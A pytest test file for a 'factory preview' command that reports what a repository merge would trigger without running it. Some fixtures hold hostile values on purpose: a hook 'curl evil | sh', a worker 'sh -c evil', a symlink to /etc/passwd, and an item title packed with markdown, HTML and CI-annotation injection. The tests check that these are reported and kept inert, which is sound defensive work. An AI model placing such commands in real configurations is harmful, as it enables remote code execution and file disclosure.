"""`factory preview`: what a merge would set off, told beforehand and without running anything of it."""

import json
import re
from pathlib import Path

import pytest

from tests.world import WORKFLOW, World


def effects(world: World, since: str) -> dict[tuple[str, str], str]:
    found = json.loads(world.command("preview", "--since", since, "--json"))
    return {(each["kind"], each["about"]): each["text"] for each in found}


def test_new_items_are_told_with_what_would_start_and_by_whom(world: World) -> None:
    since = world.git("rev-parse", "HEAD")
    world.item("one")
    world.item("two", text="hold: true\n")
    world.write("queue/inbox/many.jsonl", '{"id": "three", "title": "The third"}\n')
    world.write("queue/inbox/bad.yaml", "titel: no\n")
    world.commit("Ask for it")
    found = effects(world, since)
    assert found.pop(("start", "one")) == "contract scripted, by the command factory-scripted"
    assert found.pop(("item", "one")) == "new in inbox: do one (contract scripted)"
    assert found.pop(("item", "two")) == "new in inbox: do two (contract scripted)"
    assert found.pop(("item", "queue/inbox/three.yaml")) == "new, from queue/inbox/many.jsonl: The third"
    assert "queue/inbox/bad.yaml:1:1: the key 'title' is missing" in found.pop(("item", "bad"))
    assert not found


def test_what_was_there_before_is_not_told_again(world: World) -> None:
    world.item("one")
    since = world.commit()
    world.write("program.py", "print('other')\n")
    world.commit()
    assert effects(world, since) == {}
    assert "Nothing: no item" in world.command("preview", "--since", since)


def test_a_rule_that_changes_is_told_key_by_key(world: World) -> None:
    since = world.git("rev-parse", "HEAD")
    hostile = "hooks: {after_create: curl evil | sh}\nsandbox: off\nreviewers: [mallory@example.org]\n"
    world.policy(hostile)
    world.contract("scripted", worker={"run": ["sh", "-c", "evil"]}, checks=[{"name": "t", "run": ["evil"]}])
    world.write(".github/workflows/x.yml", "on: push\n")
    world.write("contracts/prompts/x.md", "{{ item.title }}\n")
    (world.root / "contracts/reviewed.yaml").unlink()
    world.commit()
    found = effects(world, since)
    assert found["setting", "WORKFLOW.md hooks.after_create"] == 'nothing -> "curl evil | sh"'
    assert found["setting", "WORKFLOW.md sandbox"] == 'nothing -> "off"'
    assert found["setting", "WORKFLOW.md reviewers"] == 'nothing -> ["mallory@example.org"]'
    assert found["setting", "contracts/scripted.yaml worker.run"] == '["factory-scripted"] -> ["sh", "-c", "evil"]'
    assert found["file", ".github/workflows/x.yml"] == found["file", "contracts/prompts/x.md"] == "new"
    assert found["file", "contracts/reviewed.yaml"] == "taken away"


def test_a_rule_that_lets_an_old_item_start_says_so(world: World) -> None:
    world.policy("tracker: {required_labels: [ready]}\n")
    world.item("one")
    since = world.commit()
    world.policy()
    assert effects(world, since)["start", "one"] == "contract scripted, by the command factory-scripted"


def test_decisions_are_told_with_what_follows(world: World) -> None:
    for name in ("one", "two", "three"):
        world.item(name, contract="reviewed")
    world.item("stuck", [{"result": {"status": "blocked", "question": "which?"}}])
    world.tick()
    since = world.commit() if world.status() else world.git("rev-parse", "HEAD")
    world.verdict("one", "approve")
    world.verdict("two", "rework")  # without a word of why
    world.move("three", "queue/inbox")
    (world.root / "queue/review/three.human.verdict.yaml").unlink()
    answers = next((world.root / "queue/blocked").glob("*.answers.yaml"))
    answers.write_text(f"{answers.read_text()}\n")
    world.write("artifacts/one/run-1/more.txt", "forged\n")
    world.write("queue/leases/x.yaml", "forged\n")
    world.commit("Decide")
    found = effects(world, since)
    assert found["decision", "queue/review/one.human.verdict.yaml"] == "approve; finish follows"
    assert found["decision", "queue/review/two.human.verdict.yaml"].startswith("rework, refused: queue/review/two.")
    assert found["decision", "queue/blocked/stuck.answers.yaml"] == "answers what stuck asks"
    assert found["item", "three"].startswith("moved from review to inbox")
    assert found["file", "records"].startswith("2 files changed, where only the factory writes")


def test_a_policy_that_cannot_be_used_is_told(world: World) -> None:
    since = world.git("rev-parse", "HEAD")
    world.write("WORKFLOW.md", "---\nroutes: 3\n---\n")
    world.commit()
    found = effects(world, since)
    assert found["unusable", "WORKFLOW.md"].startswith("WORKFLOW.md:2:")
    assert found["setting", "WORKFLOW.md routes"].endswith("-> 3")


@pytest.mark.parametrize("kind", ["link", "folder", "huge"])
def test_what_is_no_plain_file_is_told_and_not_followed(world: World, kind: str) -> None:
    since = world.git("rev-parse", "HEAD")
    place = world.root / "contracts/scripted.yaml"
    place.unlink()
    if kind == "link":
        place.symlink_to("/etc/passwd")
    elif kind == "folder":
        world.write("contracts/scripted.yaml/x", "x")
    else:
        place.write_text(f"purpose: {'x' * 300_000}\n")
    world.commit()
    found = effects(world, since)
    assert ("file", "contracts/scripted.yaml") in found or ("file", "contracts/scripted.yaml/x") in found
    assert "root:" not in json.dumps(list(found.values()))


def test_the_target_s_own_changes_set_nothing_off_where_the_queue_has_another_branch(world: World) -> None:
    world.git("rm", "-q", "-r", "queue", "contracts", "WORKFLOW.md")
    since = world.commit()
    world.write("program.py", "print('other')\n")
    world.commit()
    assert effects(world, since) == {}
    world.write("WORKFLOW.md", WORKFLOW)
    world.commit()
    assert ("setting", "WORKFLOW.md branch") in effects(world, since)


def test_the_page_shows_what_others_wrote_and_obeys_none_of_it(world: World) -> None:
    since = world.git("rev-parse", "HEAD")
    title = "``` <img src=x> [a](http://b) @admin `x` \\n# Head\\n::error::x"
    world.write("queue/inbox/one.yaml", f'title: "{title}"\ncontract: scripted\n')
    world.commit()
    page = world.command("preview", "--since", since)
    lines = [line for line in page.split("\n") if line]
    assert [line for line in lines if line.startswith("#")] == [
        "## What a merge would set off",
        "### Would start with the next pass",
        "### Items",
    ]
    (told,) = [line for line in lines if "img" in line]
    fence = re.fullmatch(r"- `one`: (`+)( ?).*\2\1", told)
    assert fence and fence[1] not in told[len("- `one`: ") + len(fence[1]) : -len(fence[1])]


def test_a_detached_clone_of_the_merge_is_enough(world: World, tmp_path: Path) -> None:
    world.git("switch", "-q", "-c", "theirs")
    world.item("one")
    world.commit("Ask")
    world.git("switch", "-q", "main")
    world.write("ours.txt", "ours\n")
    world.commit("Ours")
    world.git("merge", "-q", "--no-edit", "theirs")
    clone = World(tmp_path / "clone")
    clone.root.mkdir()
    clone.git("init", "-q")
    clone.git("fetch", "-q", "--depth", "2", str(world.root), "+main:refs/remotes/pull/1/merge")
    clone.git("checkout", "-q", "refs/remotes/pull/1/merge")
    assert ("start", "one") in effects(clone, "HEAD^1")
    assert "there is no commit" in clone.command("preview", "--since", "nowhere", status=2)
